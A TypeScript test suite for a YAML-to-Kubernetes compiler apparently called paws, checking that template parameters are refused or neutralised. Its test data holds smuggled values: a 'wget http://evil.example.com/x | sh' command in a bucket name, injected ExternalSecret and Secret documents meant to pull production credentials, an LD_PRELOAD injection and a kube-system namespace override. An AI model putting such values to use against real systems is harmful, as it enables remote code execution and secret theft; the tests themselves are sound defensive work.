import fc from 'fast-check';
import { parseAllDocuments, stringify } from 'yaml';
import { describe, expect, it } from 'vitest';
import { compile, createMemoryHost } from '../src/index.js';

/** A workload with one resource of `type` and these params, compiled for the embedded dev environment. */
async function compileResource(
  type: string,
  params: Record<string, unknown>,
  extra: Record<string, string> = {},
) {
  const workload = stringify({
    apiVersion: 'paws.dev/v1',
    metadata: { name: 'api' },
    containers: { main: { image: 'nginx' } },
    resources: { res: { type, params } },
  });
  return compile({}, createMemoryHost({ 'paws.yaml': workload, ...extra }));
}

const codes = (result: Awaited<ReturnType<typeof compile>>) =>
  result.diagnostics.filter((d) => d.severity === 'error').map((d) => d.code);

/** Kinds of every object compiled, sorted: the structure a template produced. */
const kinds = (result: Awaited<ReturnType<typeof compile>>) =>
  result.files
    .filter((f) => f.path.endsWith('.yaml'))
    .flatMap((f) => parseAllDocuments(f.content).map((d) => (d.toJS() as { kind: string }).kind))
    .sort();

const injectedSecret =
  '16\n---\napiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata: { name: steal }\nspec: { dataFrom: [{ extract: { key: prod/shop-db } }] }';

describe('template injection through the built-in dev templates', () => {
  it.each([
    ['postgres', { version: injectedSecret }],
    ['postgres', { database: 'app }\n                  - { name: LD_PRELOAD, value: /tmp/x.so' }],
    ['s3', { bucket: 'b; wget http://evil.example.com/x | sh; echo' }],
    ['mysql', { version: '8.4"\nkind: Secret' }],
    ['amqp', { vhost: 'app }\n  - { name: X, value: y' }],
    ['kafka-topic', { name: 'a b' }],
  ])(
    '%s with %j is refused by the type’s params pattern (PAWS3104), nothing compiled',
    async (type, params) => {
      const result = await compileResource(type, params);
      expect(codes(result)).toEqual(['PAWS3104']);
      expect(result.files).toEqual([]);
    },
  );

  it('ollama gets its model through an env var, never as shell text', async () => {
    const result = await compileResource('llm-model', { model: 'qwen2.5:0.5b' });
    const deployment = result.files.find((f) => f.path.includes('/_shared/llm-model-'))?.content ?? '';
    expect(deployment).toContain('ollama pull "$MODEL"');
    expect(deployment).toMatch(/name: MODEL\n\s+value: qwen2\.5:0\.5b/);
  });

  it('minio gets its bucket through an env var, never as shell text', async () => {
    const result = await compileResource('s3', { bucket: 'assets' });
    const deployment = result.files.find((f) => f.path.includes('/_shared/s3-'))?.content ?? '';
    expect(deployment).toContain('mkdir -p "/data/$BUCKET"');
    expect(deployment).toMatch(/name: BUCKET\n\s+value: assets/);
  });

  it('fuzzed params of every built-in in-cluster type: refused, or the same objects as benign values', async () => {
    const cases: [string, string][] = [
      ['postgres', 'version'],
      ['postgres', 'database'],
      ['mysql', 'database'],
      ['redis', 'version'],
      ['mongodb', 'version'],
      ['amqp', 'vhost'],
      ['s3', 'bucket'],
      ['kafka-topic', 'name'],
      ['elasticsearch', 'version'],
      ['llm-model', 'model'],
      ['gcp-pubsub-emulator', 'project_id'],
    ];
    const benign = new Map<string, string[]>();
    for (const [type] of cases) benign.set(type, kinds(await compileResource(type, {})));
    const piece = fc.constantFrom(
      '\n',
      '---',
      ': ',
      '"',
      "'",
      '{',
      '}',
      '[',
      ']',
      '#',
      '&',
      '*',
      '!',
      '|',
      '>',
      ';',
      '$(',
      '`',
      'kind: Secret',
      ' ',
      'a',
      '1',
      '.',
      '-',
      '_',
      '/',
    );
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...cases),
        fc.array(piece, { minLength: 1, maxLength: 10 }),
        async ([type, param], parts) => {
          const result = await compileResource(type, { [param]: parts.join('') });
          const errors = codes(result);
          if (errors.length > 0) expect(errors).toEqual(['PAWS3104']);
          else expect(kinds(result)).toEqual(benign.get(type));
        },
      ),
      { numRuns: 150, seed: 18 },
    );
  }, 60_000);
});

const platformType = `apiVersion: paws.dev/v1
kind: ResourceType
metadata: { name: thing }
spec:
  params: { type: object, properties: { value: { type: string }, names: { type: array, items: { type: string } } } }
  outputs: { type: object, properties: { host: { type: string } } }
`;

const definition = (template: string) => `apiVersion: paws.dev/v1
kind: ResourceDefinition
metadata: { name: thing-in-cluster }
spec:
  type: thing
  driver:
    kind: kubernetes
    template: |
${template
  .split('\n')
  .map((l) => `      ${l}`)
  .join('\n')}
  outputs: { host: thing }
`;

describe('the kubernetes template driver rejects what its text does not produce', () => {
  it('a value that adds a document (PAWS3306)', async () => {
    const template =
      'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: {{resource.k8sName}}, namespace: {{resource.namespace}} }\ndata:\n  value: {{params.value}}';
    const result = await compileResource(
      'thing',
      { value: 'x\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: { name: extra }' },
      { 'platform/type.yaml': platformType, 'platform/def.yaml': definition(template) },
    );
    const errors = result.diagnostics.filter((d) => d.severity === 'error');
    expect(errors.map((d) => d.code)).toEqual(['PAWS3306']);
    expect(errors[0]?.message).toContain('renders 2 YAML documents, but its text has 1');
  });

  it('a value that adds an object of another kind inside a loop (PAWS3306)', async () => {
    const template =
      '{{#each params.names}}\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: { name: {{this}}, namespace: x }\n{{/each}}';
    const result = await compileResource(
      'thing',
      { names: ['a', 'b }\n---\napiVersion: v1\nkind: Secret\nmetadata: { name: stolen'] },
      { 'platform/type.yaml': platformType, 'platform/def.yaml': definition(template) },
    );
    const errors = result.diagnostics.filter((d) => d.severity === 'error');
    expect(errors.map((d) => d.code)).toEqual(['PAWS3306']);
    expect(errors[0]?.message).toContain('kind "Secret", which its text does not write');
  });

  describe('an object lands in the namespace paws chose, or one the text names literally', () => {
    const careless = 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: {{params.value}} }';
    const compileWith = (template: string, value: string) =>
      compileResource(
        'thing',
        { value },
        { 'platform/type.yaml': platformType, 'platform/def.yaml': definition(template) },
      );

    it('a value that sets the namespace (kube-system) is PAWS3306', async () => {
      const result = await compileWith(careless, 'x, namespace: kube-system');
      const errors = result.diagnostics.filter((d) => d.severity === 'error');
      expect(errors.map((d) => d.code)).toEqual(['PAWS3306']);
      expect(errors[0]?.message).toContain('renders a ConfigMap in namespace "kube-system"');
      expect(JSON.stringify(result.files)).not.toContain('kube-system');
    });

    it.each([
      ['no namespace (paws sets it)', careless, 'x'],
      [
        '{{resource.namespace}}',
        'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: x, namespace: {{resource.namespace}} }',
        'x',
      ],
      [
        'a namespace the text writes',
        'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n  namespace: monitoring\n',
        'x',
      ],
    ])('%s compiles', async (_name, template, value) => {
      expect(codes(await compileWith(template, value))).toEqual([]);
    });
  });

  it('the same template with benign values compiles', async () => {
    const template =
      '{{#each params.names}}\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: { name: {{this}}, namespace: x }\n{{/each}}';
    const result = await compileResource(
      'thing',
      { names: ['a', 'b'] },
      { 'platform/type.yaml': platformType, 'platform/def.yaml': definition(template) },
    );
    expect(codes(result)).toEqual([]);
  });
});
